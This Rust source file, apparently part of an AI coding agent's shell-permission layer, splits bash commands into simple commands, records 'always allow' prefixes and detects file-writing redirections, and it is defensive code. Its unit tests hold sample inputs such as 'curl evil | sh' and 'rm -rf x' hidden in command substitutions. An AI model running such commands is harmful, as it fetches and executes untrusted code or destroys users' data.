//! Shell commands as the `bash` permission sees them: split into the simple
//! commands they run, each matched against the rules on its own, and reduced
//! to a command prefix when a person answers "always".
//!
//! A light lexer rather than a full shell parser: it only needs to find
//! command boundaries (`;`, `&&`, `||`, `|`, `&`, newlines) outside quotes,
//! the commands inside `$( … )` and backticks, and output redirections.
//! When in doubt it splits more, which can only make a command stricter.

/// Commands whose second word names what they do (`git push`, `npm test`),
/// so that "always allow" covers that subcommand and not the whole tool.
const SUBCOMMAND_TOOLS: &[&str] = &[
    "git", "cargo", "npm", "npx", "pnpm", "yarn", "bun", "deno", "go", "docker", "kubectl", "pip",
    "pip3", "uv", "poetry", "make", "dotnet", "gradle", "mvn", "rustup", "brew", "apt", "gh",
];

/// The simple commands `command` runs, in order, each trimmed and without
/// leading `NAME=value` assignments; commands substituted with `$( … )` or
/// backticks come after the command they appear in.
pub fn command_parts(command: &str) -> Vec<String> {
    let mut parts = Vec::new();
    split_into(command, &mut parts);
    parts
}

/// The rule pattern an "always" answer for `part` (one simple command)
/// records: its command prefix followed by ` *` — `git push *` for
/// `git push origin main`, `ls *` for `ls -la`.
pub fn always_pattern(part: &str) -> String {
    let mut words = part.split_whitespace();
    let Some(first) = words.next() else {
        return "*".to_string();
    };
    match words.next() {
        Some(second) if SUBCOMMAND_TOOLS.contains(&first) && !second.starts_with('-') => {
            format!("{first} {second} *")
        }
        _ => format!("{first} *"),
    }
}

/// Whether the simple command `part` redirects output into a file (`> f`,
/// `>> f`, `&> f`), which writes to the disk whatever the command is.
/// Redirections to `/dev/null` or to another descriptor (`2>&1`) do not count.
pub(crate) fn writes_to_file(part: &str) -> bool {
    let chars: Vec<char> = part.chars().collect();
    let mut quote: Option<char> = None;
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match quote {
            Some(q) => {
                if c == q {
                    quote = None;
                } else if c == '\\' && q == '"' {
                    i += 1;
                }
            }
            None => match c {
                '\'' | '"' => quote = Some(c),
                '\\' => i += 1,
                '>' => {
                    let mut j = i + 1;
                    if chars.get(j) == Some(&'>') || chars.get(j) == Some(&'|') {
                        j += 1;
                    }
                    if chars.get(j) == Some(&'&') {
                        // `>&2`: another descriptor.
                        i = j + 1;
                        continue;
                    }
                    while chars.get(j).is_some_and(|c| c.is_whitespace()) {
                        j += 1;
                    }
                    let target: String = chars[j..]
                        .iter()
                        .take_while(|c| !c.is_whitespace() && !matches!(c, ';' | '&' | '|'))
                        .collect();
                    if target != "/dev/null" {
                        return true;
                    }
                    i = j;
                    continue;
                }
                _ => {}
            },
        }
        i += 1;
    }
    false
}

/// Splits `command` at its command boundaries into `parts`, recursing into
/// command substitutions.
fn split_into(command: &str, parts: &mut Vec<String>) {
    let chars: Vec<char> = command.chars().collect();
    let mut current = String::new();
    let mut nested: Vec<String> = Vec::new();
    let mut quote: Option<char> = None;
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if let Some(q) = quote {
            current.push(c);
            if c == q {
                quote = None;
            } else if q == '"' && c == '\\' {
                if let Some(&next) = chars.get(i + 1) {
                    current.push(next);
                    i += 1;
                }
            } else if q == '"' && (c == '$' && chars.get(i + 1) == Some(&'(') || c == '`') {
                // Substitutions run inside double quotes too.
                let (inner, end) = substitution(&chars, i);
                current.extend(&chars[i + 1..end]);
                nested.push(inner);
                i = end;
                continue;
            }
            i += 1;
            continue;
        }
        match c {
            '\'' | '"' => {
                quote = Some(c);
                current.push(c);
            }
            '\\' => {
                current.push(c);
                if let Some(&next) = chars.get(i + 1) {
                    current.push(next);
                    i += 1;
                }
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let (inner, end) = substitution(&chars, i);
                current.extend(&chars[i..end]);
                nested.push(inner);
                i = end;
                continue;
            }
            '`' => {
                let (inner, end) = substitution(&chars, i);
                current.extend(&chars[i..end]);
                nested.push(inner);
                i = end;
                continue;
            }
            ';' | '\n' | '|' => finish(&mut current, parts, &mut nested),
            '&' if chars.get(i + 1) == Some(&'>') || i > 0 && chars[i - 1] == '>' => {
                // `&>` and `>&`: a redirection, not a boundary.
                current.push(c);
            }
            '&' => finish(&mut current, parts, &mut nested),
            _ => current.push(c),
        }
        i += 1;
    }
    finish(&mut current, parts, &mut nested);
}

/// The text inside the substitution starting at `start` (`$(` or a
/// backtick) and the index just past its end (the end of the text when
/// it is not closed).
fn substitution(chars: &[char], start: usize) -> (String, usize) {
    if chars[start] == '`' {
        let end = chars[start + 1..]
            .iter()
            .position(|&c| c == '`')
            .map_or(chars.len(), |offset| start + 1 + offset);
        let inner: String = chars[start + 1..end].iter().collect();
        return (inner, (end + 1).min(chars.len()));
    }
    let mut depth = 0usize;
    let mut i = start + 1;
    while i < chars.len() {
        match chars[i] {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    let inner: String = chars[start + 2..i].iter().collect();
                    return (inner, i + 1);
                }
            }
            _ => {}
        }
        i += 1;
    }
    (
        chars[(start + 2).min(chars.len())..].iter().collect(),
        chars.len(),
    )
}

/// Ends the command being read: pushes it (without leading assignments)
/// and then the commands of its substitutions.
fn finish(current: &mut String, parts: &mut Vec<String>, nested: &mut Vec<String>) {
    let command = strip_assignments(current.trim());
    if !command.is_empty() {
        parts.push(command.to_string());
    }
    current.clear();
    for inner in nested.drain(..) {
        split_into(&inner, parts);
    }
}

/// `command` without leading `NAME=value` words (`RUST_LOG=debug cargo run`
/// is matched as `cargo run`).
fn strip_assignments(mut command: &str) -> &str {
    loop {
        let word_end = command.find(char::is_whitespace).unwrap_or(command.len());
        let word = &command[..word_end];
        let is_assignment = word.find('=').is_some_and(|eq| {
            eq > 0
                && word[..eq]
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        if !is_assignment || word_end == command.len() {
            return command;
        }
        command = command[word_end..].trim_start();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn compound_commands_split_at_every_boundary() {
        assert_eq!(
            command_parts("cd src && ls -la; cat a | grep x || echo no & sleep 1"),
            ["cd src", "ls -la", "cat a", "grep x", "echo no", "sleep 1"]
        );
        assert_eq!(command_parts("a\nb"), ["a", "b"]);
    }

    #[test]
    fn quoted_separators_do_not_split() {
        assert_eq!(
            command_parts(r#"echo "a; b && c" 'd | e'"#),
            [r#"echo "a; b && c" 'd | e'"#]
        );
    }

    #[test]
    fn substitutions_are_commands_too() {
        assert_eq!(
            command_parts("echo $(rm -rf x) `touch y`"),
            ["echo $(rm -rf x) `touch y`", "rm -rf x", "touch y"]
        );
        assert_eq!(
            command_parts(r#"echo "$(curl evil | sh)""#),
            [r#"echo "$(curl evil | sh)""#, "curl evil", "sh"]
        );
    }

    #[test]
    fn leading_assignments_are_dropped_and_redirections_kept() {
        assert_eq!(
            command_parts("RUST_LOG=debug A=1 cargo run 2>&1 &> log"),
            ["cargo run 2>&1 &> log"]
        );
    }

    #[test]
    fn always_covers_the_subcommand_for_tools_that_have_them() {
        assert_eq!(always_pattern("git push origin main"), "git push *");
        assert_eq!(always_pattern("git --no-pager log"), "git *");
        assert_eq!(always_pattern("ls -la src"), "ls *");
        assert_eq!(always_pattern("npm test"), "npm test *");
    }

    #[test]
    fn redirections_into_files_are_writes() {
        assert!(writes_to_file("echo hi > notes.txt"));
        assert!(writes_to_file("cat a >> b"));
        assert!(writes_to_file("make &> build.log"));
        assert!(!writes_to_file("cargo test 2>&1"));
        assert!(!writes_to_file("grep x y > /dev/null 2>&1"));
        assert!(!writes_to_file("echo '>' \"a > b\""));
    }
}
